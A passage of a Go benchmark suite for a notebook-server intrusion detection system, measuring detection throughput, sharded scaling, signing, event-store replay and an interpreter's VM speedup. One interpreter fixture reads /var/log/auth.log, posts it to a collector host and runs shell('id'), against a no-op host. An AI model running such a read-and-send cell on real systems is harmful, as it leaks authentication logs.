		eng := core.MustEngine()
		detected := false
		for _, e := range tr.Events {
			for _, a := range eng.Process(e) {
				if a.Class == "account_takeover" {
					detected = true
				}
			}
		}
		if !detected {
			b.Fatal("brute force missed")
		}
	}
}

// ---- E9: monitoring overhead (the scalability claim) ----
//
// Three configurations over the same live request load: no monitoring,
// host-bus detection engine, and full wire tap + engine. The deltas
// are the overhead the paper worries about.

func BenchmarkMonitorOverhead(b *testing.B) {
	run := func(b *testing.B, withMonitor, withEngine bool) {
		c, done := bootServer(b, withMonitor, withEngine)
		defer done()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, err := c.Status(); err != nil {
				b.Fatal(err)
			}
		}
	}
	b.Run("baseline", func(b *testing.B) { run(b, false, false) })
	b.Run("host-engine", func(b *testing.B) { run(b, false, true) })
	b.Run("wiretap+engine", func(b *testing.B) { run(b, true, true) })
}

// BenchmarkEnginePipeline measures raw detection throughput
// (events/sec) — the headroom against growing traffic.
func BenchmarkEnginePipeline(b *testing.B) {
	tr := workload.StandardMix(11, 2000)
	eng := core.MustEngine()
	b.ResetTimer()
	n := 0
	for i := 0; i < b.N; i++ {
		eng.Process(tr.Events[n%len(tr.Events)])
		n++
	}
}

// ---- E9b: sharded engine multi-core scaling ----

// BenchmarkEngineParallel contrasts the serial (one-goroutine,
// global-order) signature engine against concurrent processing on the
// sharded engine over the same mixed-trace workload. On 4+ cores the
// parallel variant should sustain ≥2x the serial throughput: the
// stateless match path is lock-free and correlation state is sharded
// per group, so goroutines only contend when two actors hash to one
// shard.
func BenchmarkEngineParallel(b *testing.B) {
	tr := workload.StandardMix(11, 2000)
	events := tr.Events
	b.Run("serial", func(b *testing.B) {
		eng, err := rules.NewEngine(rules.BuiltinRules())
		if err != nil {
			b.Fatal(err)
		}
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			eng.Process(events[i%len(events)])
		}
	})
	b.Run("parallel", func(b *testing.B) {
		eng, err := rules.NewEngine(rules.BuiltinRules())
		if err != nil {
			b.Fatal(err)
		}
		var next atomic.Uint64
		b.ReportAllocs()
		b.ResetTimer()
		b.RunParallel(func(pb *testing.PB) {
			for pb.Next() {
				i := next.Add(1)
				eng.Process(events[int(i)%len(events)])
			}
		})
	})
	// Batched replay across actor shards — the jsentinel --workers
	// path, which also preserves per-group determinism.
	b.Run("replay-sharded", func(b *testing.B) {
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			eng, err := rules.NewEngine(rules.BuiltinRules())
			if err != nil {
				b.Fatal(err)
			}
			workload.Replay(events, 4, 256, func(batch []trace.Event) {
				eng.ProcessBatch(batch)
			})
		}
		b.ReportMetric(float64(len(events)), "events/op")
	})
}

// ---- E9c: sharded core engine multi-core scaling ----

// BenchmarkCoreParallel is BenchmarkEngineParallel for the full brain:
// signatures + per-shard anomaly detectors + incident correlation +
// OSCRP scoring. The serial variant is the single-goroutine baseline
// (what the old single-mutex engine could do at best); parallel and
// replay-sharded exercise the actor-sharded paths that PRs 2 and 4
// hand N workers. On 4+ cores the sharded core must beat the serial
// baseline — the number DESIGN.md quotes.
func BenchmarkCoreParallel(b *testing.B) {
	tr := workload.StandardMix(11, 2000)
	events := tr.Events
	b.Run("serial", func(b *testing.B) {
		eng := core.MustEngine()
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			eng.Process(events[i%len(events)])
		}
	})
	// Approximation of the pre-refactor architecture: every Process
	// call serialized behind one engine-wide mutex (a 1-shard engine,
	// so per-shard locking adds no extra lock beyond the old detector
	// mutexes; the external mutex plays the old engine mutex). Kept as
	// a live baseline so the sharded win is re-measured on every CI
	// run instead of quoted from a one-off. The approximation pays a
	// couple of uncontended lock acquisitions the old engine did not,
	// so read small deltas with that in mind.
	b.Run("parallel-globalmutex", func(b *testing.B) {
		opts := core.DefaultOptions()
		opts.Shards = 1
		eng, err := core.NewEngine(opts)
		if err != nil {
			b.Fatal(err)
		}
		var mu sync.Mutex
		var next atomic.Uint64
		b.ReportAllocs()
		b.ResetTimer()
		b.RunParallel(func(pb *testing.PB) {
			for pb.Next() {
				i := next.Add(1)
				mu.Lock()
				eng.Process(events[int(i)%len(events)])
				mu.Unlock()
			}
		})
	})
	b.Run("parallel-sharded", func(b *testing.B) {
		eng := core.MustEngine()
		var next atomic.Uint64
		b.ReportAllocs()
		b.ResetTimer()
		b.RunParallel(func(pb *testing.PB) {
			for pb.Next() {
				i := next.Add(1)
				eng.Process(events[int(i)%len(events)])
			}
		})
	})
	// Batched actor-sharded replay — the jsentinel --replay --workers
	// path, which also preserves the alert- and incident-set
	// guarantees of TestShardedCoreMatchesSerial.
	b.Run("replay-sharded", func(b *testing.B) {
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			// A fresh engine per iteration is needed for correctness,
			// but its construction (rule compilation, 32 detector
			// sets) must not pollute the replay timing.
			b.StopTimer()
			eng := core.MustEngine()
			b.StartTimer()
			workload.Replay(events, 4, 256, func(batch []trace.Event) {
				eng.ProcessBatch(batch)
			})
		}
		b.ReportMetric(float64(len(events)), "events/op")
	})
}

// BenchmarkFleetCensusWithCore measures the full jscan --fleet path
// after the core wiring: every census finding flows through a bounded
// stage into the core engine, and the census closes with the OSCRP
// incident summary. The engine must not slow the sweep measurably —
// findings are a trickle next to probe I/O — while upgrading its
// output from an alert tally to incidents and risk.
func BenchmarkFleetCensusWithCore(b *testing.B) {
	const fleetSize = 32
	fl, err := fleet.Spawn(fleet.Generate(1, fleetSize))
	if err != nil {
		b.Fatal(err)
	}
	defer fl.Close()
	targets := fl.Targets()
	suites := []string{"misconfig", "nbscan", "crypto", "intel"}
	for _, workers := range []int{4, 16} {
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				eng := core.MustEngine()
				stage := trace.NewStage(eng, workers, 4096, trace.Block)
				rep, err := fleet.Scan(context.Background(), targets, fleet.Options{
					Workers: workers, Suites: suites, Events: stage,
				})
				if err != nil {
					b.Fatal(err)
				}
				stage.Close()
				if rep.Scanned != fleetSize {
					b.Fatalf("scanned %d/%d", rep.Scanned, fleetSize)
				}
				if st := eng.Stats(); st.Incidents == 0 {
					b.Fatal("census produced no incidents through the core engine")
				}
			}
			b.ReportMetric(float64(fleetSize)*float64(b.N)/b.Elapsed().Seconds(), "targets/sec")
		})
	}
}

// ---- E10: low-and-slow evasion vs detection crossover ----

func BenchmarkLowSlowDetection(b *testing.B) {
	for _, interval := range []time.Duration{5 * time.Second, 30 * time.Second, 120 * time.Second} {
		b.Run(fmt.Sprintf("interval=%s", interval), func(b *testing.B) {
			g := workload.NewGenerator(1, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))
			tr := &workload.Trace{}
			g.InjectLowSlow(tr, "198.51.100.9", 30, interval)
			b.ResetTimer()
			caught := 0
			for i := 0; i < b.N; i++ {
				det := anomaly.NewLowSlow(anomaly.DefaultLowSlowConfig())
				for _, e := range tr.Events {
					if len(det.Process(e)) > 0 {
						caught++
						break
					}
				}
			}
			b.ReportMetric(float64(caught)/float64(b.N), "detection-rate")
		})
	}
}

// ---- E11: WebSocket/Jupyter wire parsing throughput ----

func BenchmarkWSParse(b *testing.B) {
	// A realistic execute_request frame as it appears on the wire.
	msg, err := jmsg.New(jmsg.TypeExecuteRequest, "m1", "sess", "alice",
		time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC),
		jmsg.ExecuteRequest{Code: `data = read_file("data/train.csv")` + "\n" + `print(len(data))`})
	if err != nil {
		b.Fatal(err)
	}
	msg.Channel = jmsg.ChannelShell
	payload, err := msg.MarshalWS()
	if err != nil {
		b.Fatal(err)
	}
	frame := wsproto.EncodeFrame(true, wsproto.OpText, payload, []byte{1, 2, 3, 4})
	b.SetBytes(int64(len(frame)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		fr := wsproto.NewFrameReader(newRepeatReader(frame, 1), 0)
		f, err := fr.ReadFrame()
		if err != nil {
			b.Fatal(err)
		}
		if _, err := jmsg.UnmarshalWS(f.Payload); err != nil {
			b.Fatal(err)
		}
	}
}

// ---- E13: message signing cost, classical and post-quantum ----

func BenchmarkHMACSigning(b *testing.B) {
	signer := jmsg.NewSigner([]byte("bench-connection-key-0123456789"))
	msg, _ := jmsg.New(jmsg.TypeExecuteRequest, "m1", "sess", "alice",
		time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC),
		jmsg.ExecuteRequest{Code: "print(1)"})
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := msg.Marshal(signer); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkHMACVerify(b *testing.B) {
	signer := jmsg.NewSigner([]byte("bench-connection-key-0123456789"))
	msg, _ := jmsg.New(jmsg.TypeExecuteRequest, "m1", "sess", "alice",
		time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC),
		jmsg.ExecuteRequest{Code: "print(1)"})
	wire, _ := msg.Marshal(signer)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := jmsg.Unmarshal(wire, signer); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkLamportKeyGen(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := cryptoaudit.GenerateKey(); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkLamportSign(b *testing.B) {
	msg := []byte("audit head 0123456789abcdef")
	template, err := cryptoaudit.GenerateKey()
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		// Keys are one-time; a struct copy of the unused template is a
		// cheap fresh key (the ~48 KB copy is included and small next
		// to the hashing itself).
		k := *template
		if _, err := k.Sign(msg); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkLamportVerify(b *testing.B) {
	msg := []byte("audit head 0123456789abcdef")
	key, err := cryptoaudit.GenerateKey()
	if err != nil {
		b.Fatal(err)
	}
	sig, err := key.Sign(msg)
	if err != nil {
		b.Fatal(err)
	}
	pub := key.Public()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if !pub.Verify(msg, sig) {
			b.Fatal("verify failed")
		}
	}
}

// ---- E14: mixed-trace detection ----

func BenchmarkMixedTraceDetection(b *testing.B) {
	tr := workload.StandardMix(7, 600)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		eng := core.MustEngine()
		for _, e := range tr.Events {
			eng.Process(e)
		}
		if eng.Stats().Incidents == 0 {
			b.Fatal("no incidents")
		}
	}
	b.ReportMetric(float64(len(tr.Events)), "events/op")
}

// ---- E15: audit log append + verify ----

func BenchmarkAuditAppend(b *testing.B) {
	log := audit.NewLog(nil)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		log.Append("k1", "alice", "write", "data/file.csv", "", 4096, true)
	}
}

func BenchmarkAuditVerify(b *testing.B) {
	log := audit.NewLog(nil)
	for i := 0; i < 10000; i++ {
		log.Append("k1", "alice", "write", "data/file.csv", "", 4096, true)
	}
	records := log.Records()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if audit.Verify(records) != -1 {
			b.Fatal("chain broken")
		}
	}
	b.ReportMetric(float64(len(records)), "records/verify")
}

// ---- Supporting micro-benchmarks ----

func BenchmarkEntropy(b *testing.B) {
	data := make([]byte, 64*1024)
	for i := range data {
		data[i] = byte(i * 7)
	}
	b.SetBytes(int64(len(data)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		vfs.Entropy(data)
	}
}

func BenchmarkMinilangInterp(b *testing.B) {
	host := benchHost{}
	in := minilang.NewInterp(host, minilang.Limits{})
	src := `total = 0
for i in range(100)
    total = total + i
end`
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := in.Run(src); err != nil {
			b.Fatal(err)
		}
		in.TakeStdout()
	}
}

// minilangEngineCases are the tree-vs-VM comparison workloads. fib-iter
// and tight-loop are the paper-table cases the bench gate pins a ≥5x
// VM speedup on: pure numeric loops where slot-resolved variables,
// unboxed numbers, constant folding, and fused compare-branch
// superinstructions all pay off. basic-ops and builtin-calls bound the
// other end: work dominated by host/builtin dispatch, where both
// engines share the same runtime substrate.
var minilangEngineCases = []struct {
	name string
	src  string
}{
	{"basic-ops", `a = 3
b = 4
c = a * a + b * b
d = c > 24 and c < 26
s = "py" + "thia"
t = s + str(c)`},
	{"builtin-calls", `parts = split("a,b,c,d,e,f,g,h", ",")
s = join(parts, "-")
u = upper(s)
n = len(u) + len(parts)
h = sha256(u)`},
	{"fib-iter", `a = 0
b = 1
k = 0
while k < 60
t = a + b
a = b
b = t
k = k + 1
end`},
	{"tight-loop", `s = 0
i = 0
while i < 200
s = s + i * (3 * 7 + 2)
i = i + 1
end`},
}

// BenchmarkMinilangEngines runs each workload on both engines. The vm
// sub-benchmarks additionally report a "speedup" metric (tree ns/op ÷
// vm ns/op, measured in the same process) so the ≥5x claim on
// fib-iter and tight-loop is a pinned number in BENCH_8.json rather
// than a cross-run subtraction.
func BenchmarkMinilangEngines(b *testing.B) {
	limits := minilang.Limits{MaxSteps: 1_000_000}
	for _, tc := range minilangEngineCases {
		prog, err := minilang.Parse(tc.src)
		if err != nil {
			b.Fatal(err)
		}
		b.Run(tc.name+"/tree", func(b *testing.B) {
			in := minilang.NewInterp(benchHost{}, limits)
			if err := in.RunProgram(prog); err != nil { // warm up
				b.Fatal(err)
			}
			in.TakeStdout()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if err := in.RunProgram(prog); err != nil {
					b.Fatal(err)
				}
				in.TakeStdout()
			}
		})
		b.Run(tc.name+"/vm", func(b *testing.B) {
			vm := minilang.NewVM(benchHost{}, limits)
			if err := vm.RunProgram(prog); err != nil { // warm up: compile the chunk
				b.Fatal(err)
			}
			vm.TakeStdout()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if err := vm.RunProgram(prog); err != nil {
					b.Fatal(err)
				}
				vm.TakeStdout()
			}
			vmNs := float64(b.Elapsed().Nanoseconds()) / float64(b.N)
			b.StopTimer()
			// Reference the tree-walker on the same program, same
			// process, so the ratio is insensitive to machine speed.
			in := minilang.NewInterp(benchHost{}, limits)
			const probe = 2000
			start := time.Now()
			for i := 0; i < probe; i++ {
				if err := in.RunProgram(prog); err != nil {
					b.Fatal(err)
				}
				in.TakeStdout()
			}
			treeNs := float64(time.Since(start).Nanoseconds()) / probe
			if vmNs > 0 {
				b.ReportMetric(treeNs/vmNs, "speedup")
			}
		})
	}

	// host-cell is the one-shot case that used to favor the tree
	// engine: a cell dominated by host dispatch, executed once per
	// request (the fleet-census shape — one probe notebook replayed
	// against many servers). Pre-cache, every execution paid
	// Run(src) = parse + (vm only) compile, so the VM's front-end
	// overhead bought nothing — the oneshot variants pin that
	// penalty. With the manager program cache, the steady-state
	// per-execution cost is RunProgram on a shared parsed program
	// through the kernel's persistent engine (parse skipped by the
	// cache, bytecode compile skipped by the VM's per-program chunk
	// memo) — the "cached" variants — and the VM no longer trails the
	// tree-walker on its worst-case workload. vm/cached reports the
	// ratio against a same-process tree cached probe so the claim is
	// a pinned metric in the bench artifact.
	const hostCell = `d = read_file("/var/log/auth.log")
n = len(d)
s1 = http_post("http://collector.internal/ingest", d)
s2 = http_post("http://collector.internal/ack", "probe")
o = shell("id")
r = str(n) + ":" + str(s1) + ":" + str(s2) + ":" + o`
	hostProg, err := minilang.Parse(hostCell)
	if err != nil {
		b.Fatal(err)
	}
	b.Run("host-cell/tree/oneshot", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			in := minilang.NewInterp(benchHost{}, limits)
			if err := in.Run(hostCell); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("host-cell/vm/oneshot", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			vm := minilang.NewVM(benchHost{}, limits)
			if err := vm.Run(hostCell); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("host-cell/tree/cached", func(b *testing.B) {
		in := minilang.NewInterp(benchHost{}, limits)
		if err := in.RunProgram(hostProg); err != nil {
			b.Fatal(err)
		}
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if err := in.RunProgram(hostProg); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("host-cell/vm/cached", func(b *testing.B) {
		vm := minilang.NewVM(benchHost{}, limits)
		if err := vm.RunProgram(hostProg); err != nil { // warm: compile the chunk once
			b.Fatal(err)
		}
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if err := vm.RunProgram(hostProg); err != nil {
				b.Fatal(err)
			}
		}
		vmNs := float64(b.Elapsed().Nanoseconds()) / float64(b.N)
		b.StopTimer()
		const probe = 2000
		in := minilang.NewInterp(benchHost{}, limits)
		start := time.Now()
		for i := 0; i < probe; i++ {
			if err := in.RunProgram(hostProg); err != nil {
				b.Fatal(err)
			}
		}
		treeNs := float64(time.Since(start).Nanoseconds()) / probe
		if vmNs > 0 {
			b.ReportMetric(treeNs/vmNs, "vs-tree-cached")
		}
	})
}

// BenchmarkBuiltinNames pins that the memoized builtin listing is
// allocation-free after the first call (the completion path sorts it
// once, not per keystroke).
func BenchmarkBuiltinNames(b *testing.B) {
	minilang.BuiltinNames() // prime the sync.Once
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(minilang.BuiltinNames()) == 0 {
			b.Fatal("no builtins")
		}
	}
}

// benchHost is a no-op minilang host for interpreter micro-benchmarks.
type benchHost struct{}

func (benchHost) ReadFile(string) ([]byte, error)    { return nil, nil }
func (benchHost) WriteFile(string, []byte) error     { return nil }
func (benchHost) DeleteFile(string) error            { return nil }
func (benchHost) RenameFile(string, string) error    { return nil }
func (benchHost) ListFiles(string) ([]string, error) { return nil, nil }
func (benchHost) HTTPRequest(string, string, []byte) (int, []byte, error) {
	return 200, nil, nil
}
func (benchHost) Shell(string) (string, error) { return "", nil }
func (benchHost) Spin(int64)                   {}
func (benchHost) Hostname() string             { return "bench" }
func (benchHost) Env(string) string            { return "" }

// repeatReader yields the same byte slice n times.
type repeatReader struct {
	data []byte
	pos  int
	left int
}

func newRepeatReader(data []byte, n int) *repeatReader {
	return &repeatReader{data: data, left: n}
}

func (r *repeatReader) Read(p []byte) (int, error) {
	if r.left == 0 {
		return 0, fmt.Errorf("EOF")
	}
	n := copy(p, r.data[r.pos:])
	r.pos += n
	if r.pos == len(r.data) {
		r.pos = 0
		r.left--
	}
	return n, nil
}

// ---- E16: event-store replay vs flat JSONL, v1 JSON vs v2 binary ----
//
// The storage-layer claim: a filtered, segment-parallel store replay
// beats loading a whole JSONL trace into memory and replaying it,
// because segments decode concurrently, the sidecar index skips
// segments that cannot match, and the engine only sees matching
// events. The mixed trace is ~100k events (the paper's "production
// traffic" scale knob); jsonl-full is the pre-store pipeline.
//
// Every store case runs against both segment codecs side by side —
// json-v1 (the recorded baseline) and binary-v2 — so the codec's
// speedup is a first-class number in the published bench JSON. The
// pushdown-skip case is the codec's headline: a benign-user actor
// filter that appears in every segment, defeating sidecar pruning, so
// v1 must JSON-decode all ~100k frames while v2 discards non-matching
// bodies from the frame header alone.
func BenchmarkStoreReplay(b *testing.B) {
	tr := workload.StandardMix(11, 75000)
	dir := b.TempDir()

	jsonlPath := filepath.Join(dir, "trace.jsonl")
	jf, err := os.Create(jsonlPath)
	if err != nil {
		b.Fatal(err)
	}
	jw := trace.NewJSONLWriter(jf)
	for _, e := range tr.Events {
		jw.Emit(e)
	}
	if err := jw.Flush(); err != nil {
		b.Fatal(err)
	}
	jf.Close()

	buildStore := func(name string, codec evstore.Codec) *evstore.Store {
		storeDir := filepath.Join(dir, name)
		st, err := evstore.Open(storeDir, evstore.Options{SegmentBytes: 2 << 20, Codec: codec})
		if err != nil {
			b.Fatal(err)
		}
		if err := st.AppendBatch(tr.Events); err != nil {
			b.Fatal(err)
		}
		if err := st.Close(); err != nil {
			b.Fatal(err)
		}
		store, err := evstore.OpenRead(storeDir)
		if err != nil {
			b.Fatal(err)
		}
		return store
	}
	stores := []struct {
		name  string
		store *evstore.Store
	}{
		{"json-v1", buildStore("store-v1", evstore.CodecJSON)},
		{"binary-v2", buildStore("store-v2", evstore.CodecBinary)},
	}

	newEng := func() *rules.Engine {
		eng, err := rules.NewEngine(rules.BuiltinRules())
		if err != nil {
			b.Fatal(err)
		}
		return eng
	}
	const workers, batch = 8, 256

	b.Run("jsonl-full", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			f, err := os.Open(jsonlPath)
			if err != nil {
				b.Fatal(err)
			}
			events, err := trace.ReadJSONL(f)
			f.Close()
			if err != nil {
				b.Fatal(err)
			}
			eng := newEng()
			workload.Replay(events, workers, batch, func(bt []trace.Event) {
				eng.ProcessBatch(bt)
			})
			if eng.Evaluated() != uint64(len(tr.Events)) {
				b.Fatalf("evaluated %d of %d", eng.Evaluated(), len(tr.Events))
			}
		}
		b.ReportMetric(float64(len(tr.Events)), "events/op")
	})

	for _, sc := range stores {
		store := sc.store

		b.Run("store-full/"+sc.name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				eng := newEng()
				stats, err := store.Replay(evstore.Filter{}, workers, batch, func(bt []trace.Event) {
					eng.ProcessBatch(bt)
				})
				if err != nil {
					b.Fatal(err)
				}
				if stats.Events != int64(len(tr.Events)) {
					b.Fatalf("replayed %d of %d", stats.Events, len(tr.Events))
				}
			}
			b.ReportMetric(float64(len(tr.Events)), "events/op")
		})

		b.Run("store-filter-kind/"+sc.name, func(b *testing.B) {
			var matched int64
			for i := 0; i < b.N; i++ {
				eng := newEng()
				stats, err := store.Replay(evstore.Filter{
					Kinds: []trace.Kind{trace.KindAuth},
				}, workers, batch, func(bt []trace.Event) {
					eng.ProcessBatch(bt)
				})
				if err != nil {
					b.Fatal(err)
				}
				matched = stats.Events
				if matched == 0 {
					b.Fatal("kind filter matched nothing")
				}
			}
			b.ReportMetric(float64(matched), "events/op")
		})

		// The brute-force source address appears in one injection
		// window: the actor index prunes nearly every segment, so this
		// is the needle-in-haystack query the sidecar exists for.
		b.Run("store-filter-actor/"+sc.name, func(b *testing.B) {
			var selected int
			for i := 0; i < b.N; i++ {
				eng := newEng()
				stats, err := store.Replay(evstore.Filter{
					Actor: "203.0.113.66",
				}, workers, batch, func(bt []trace.Event) {
					eng.ProcessBatch(bt)
				})
				if err != nil {
					b.Fatal(err)
				}
				if stats.Events == 0 {
					b.Fatal("actor filter matched nothing")
				}
				if len(eng.Alerts()) == 0 {
					b.Fatal("brute-force campaign not re-detected from filtered replay")
				}
				selected = stats.SegmentsSelected
			}
			b.ReportMetric(float64(selected), "segments-read/op")
		})

		// A benign user active from first segment to last: the sidecar
		// selects everything, so the entire win must come from skipping
		// frame-body decodes — zero on v1, most of the store on v2.
		b.Run("store-pushdown-skip/"+sc.name, func(b *testing.B) {
			var skipped int64
			for i := 0; i < b.N; i++ {
				eng := newEng()
				stats, err := store.Replay(evstore.Filter{
					Actor: "alice",
				}, workers, batch, func(bt []trace.Event) {
					eng.ProcessBatch(bt)
				})
				if err != nil {
					b.Fatal(err)
				}
				if stats.Events == 0 {
					b.Fatal("benign-actor filter matched nothing")
				}
				skipped = stats.Skipped
			}
			b.ReportMetric(float64(skipped), "frames-skipped/op")
		})
	}
}

// BenchmarkIncidentQuery pins the history layer's perf contract: a
// filtered incident query over the recorded history must answer the
// same question as replay-based re-detection — byte-identical rendered
// table — at ≥50x less cost on the ~100k-event production-scale trace.
// The "indexed" case reports a "speedup" metric (re-detection ns/op ÷
// query ns/op, probed in the same process) so the claim is a pinned
// number in the published bench JSON, not a cross-run subtraction. The
// equality check runs inside both loops: a fast path that answers a
// different question would be a regression, not a win.
func BenchmarkIncidentQuery(b *testing.B) {
	tr := workload.StandardMix(11, 75000)
	dir := b.TempDir()
	const workers, batch = 8, 256

	// The events store — what re-detection has to chew through.
	storeDir := filepath.Join(dir, "events")
	st, err := evstore.Open(storeDir, evstore.Options{SegmentBytes: 2 << 20, Codec: evstore.CodecBinary})
	if err != nil {
		b.Fatal(err)
	}
	if err := st.AppendBatch(tr.Events); err != nil {
		b.Fatal(err)
	}
	if err := st.Close(); err != nil {
		b.Fatal(err)
	}
	store, err := evstore.OpenRead(storeDir)
	if err != nil {
		b.Fatal(err)
	}

	// The history — recorded once by the detection pass, exactly as
	// the CLIs record it, then opened read-only like `jsentinel query`.
	histDir := filepath.Join(dir, "history")
	hs, err := histstore.OpenWith(histDir, histstore.OpenReplace, histstore.Options{})
	if err != nil {
		b.Fatal(err)
	}
	hrec := histstore.NewRecorder(hs)
	engOpts := core.DefaultOptions()
	engOpts.OnAlert = hrec.OnAlert
	engOpts.OnIncidentUpdate = hrec.OnIncidentUpdate
	eng, err := core.NewEngine(engOpts)
	if err != nil {
		b.Fatal(err)
	}
	workload.Replay(tr.Events, workers, batch, func(bt []trace.Event) {
		eng.ProcessBatch(bt)
	})
	if err := hrec.Err(); err != nil {
		b.Fatal(err)
	}
	if err := hs.Close(); err != nil {
		b.Fatal(err)
	}
	reader, err := histstore.OpenRead(histDir)
	if err != nil {
		b.Fatal(err)
	}

	// The operator question: which incidents reached high severity?
	q := histstore.Query{MinSeverity: rules.SevHigh}
	want := core.RenderTopIncidents(histstore.FilterIncidents(eng.Incidents(), q), len(tr.Events))
	if want == "" {
		b.Fatal("no high-severity incidents in the trace — benchmark is vacuous")
	}

	redetect := func() string {
		e2, err := core.NewEngine(core.DefaultOptions())
		if err != nil {
			b.Fatal(err)
		}
		if _, err := store.Replay(evstore.Filter{}, workers, batch, func(bt []trace.Event) {
			e2.ProcessBatch(bt)
		}); err != nil {
			b.Fatal(err)
		}
		return core.RenderTopIncidents(histstore.FilterIncidents(e2.Incidents(), q), len(tr.Events))
	}

	b.Run("redetect", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			if got := redetect(); got != want {
				b.Fatalf("re-detection table drifted:\n%s\nvs\n%s", got, want)
			}
		}
		b.ReportMetric(float64(len(tr.Events)), "events/op")
	})

	b.Run("indexed", func(b *testing.B) {
		var scanned int
		for i := 0; i < b.N; i++ {
			incs, qst, err := histstore.QueryIncidents(reader, q)
			if err != nil {
				b.Fatal(err)
			}
			if got := core.RenderTopIncidents(incs, len(tr.Events)); got != want {
				b.Fatalf("indexed query table != re-detection table:\n%s\nvs\n%s", got, want)
			}
			scanned = qst.Records
		}
		queryNs := float64(b.Elapsed().Nanoseconds()) / float64(b.N)
		b.StopTimer()
		// Probe re-detection in the same process so the ratio is
		// insensitive to machine speed — this is the ≥50x contract.
		const probe = 3
		start := time.Now()
		for i := 0; i < probe; i++ {
			redetect()
		}
		redetectNs := float64(time.Since(start).Nanoseconds()) / probe
		if queryNs > 0 {
			b.ReportMetric(redetectNs/queryNs, "speedup")
		}
		b.ReportMetric(float64(scanned), "records/op")
	})
}

// BenchmarkStoreAppend is the encode-path companion: the same trace
// appended through Store.AppendBatch under each codec, reporting the
// on-disk footprint alongside the encode cost so the codec's size win
// is recorded with its speed win.
func BenchmarkStoreAppend(b *testing.B) {
	tr := workload.StandardMix(11, 25000)
	for _, codec := range []evstore.Codec{evstore.CodecJSON, evstore.CodecBinary} {
		name := "json-v1"
		if codec == evstore.CodecBinary {
			name = "binary-v2"
		}
		b.Run(name, func(b *testing.B) {
			var storeBytes int64
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				dir := filepath.Join(b.TempDir(), "store")
				b.StartTimer()
				st, err := evstore.Open(dir, evstore.Options{SegmentBytes: 2 << 20, Codec: codec})
				if err != nil {
					b.Fatal(err)
				}
				if err := st.AppendBatch(tr.Events); err != nil {
					b.Fatal(err)
				}
				if err := st.Close(); err != nil {
					b.Fatal(err)
				}
				b.StopTimer()
				storeBytes = 0
				for _, seg := range st.Segments() {
					storeBytes += seg.Index.Bytes
				}
				if err := os.RemoveAll(dir); err != nil {
					b.Fatal(err)
				}
				b.StartTimer()
			}
			b.ReportMetric(float64(len(tr.Events)), "events/op")
			b.ReportMetric(float64(storeBytes)/float64(len(tr.Events)), "disk-B/event")
		})
	}
}

// ---- Ingest front-end under sustained multi-tenant load ----

// BenchmarkIngestSustained drives the multi-tenant ingest service
// with 1024 concurrent WebSocket connections across 16 tenants over
// real TCP, then drains and audits the books: for every tenant the
// identity submitted == accepted + dropped + denied must hold to the
// event, with processed == accepted after the drain. Sub-benchmarks
// cover both backpressure policies and the recorded (engine + event
// store) configuration.
func BenchmarkIngestSustained(b *testing.B) {
	const (
		tenantCount = 16
		connCount   = 1024
		batchSize   = 16 // events per WebSocket message
	)

	run := func(b *testing.B, policy trace.DropPolicy, withStore bool) {
		kr := auth.NewKeyring()
		names := make([]string, tenantCount)
		for i := range names {
			names[i] = fmt.Sprintf("tenant-%02d", i)
			if err := kr.AddTenant(names[i], []byte("secret-"+names[i])); err != nil {
				b.Fatal(err)
			}
		}
		eng := core.MustEngine()
		sink := trace.Sink(eng)
		var store *evstore.Store
		if withStore {
			var err error
			store, err = evstore.Open(b.TempDir(), evstore.Options{})
			if err != nil {
				b.Fatal(err)
			}
			sink = trace.Tee(eng, store)
		}
		svc := ingest.New(ingest.Config{
			Keyring:  kr,
			MaxConns: 2 * connCount,
			Queue:    4096,
			Policy:   policy,
		}, sink)
		addr, err := svc.Start("127.0.0.1:0")
		if err != nil {
			b.Fatal(err)
		}

		// One pre-encoded message per connection: batchSize events
		// with a per-connection source address so actors spread over
		// the engine shards.
		conns := make([]*wsproto.Conn, connCount)
		msgs := make([][]byte, connCount)
		for i := range conns {
			name := names[i%tenantCount]
			tok, ok := kr.Mint(name)
			if !ok {
				b.Fatal("mint failed")
			}
			raw, err := net.Dial("tcp", addr)
			if err != nil {
				b.Fatalf("conn %d: %v", i, err)
			}
			hdr := http.Header{}
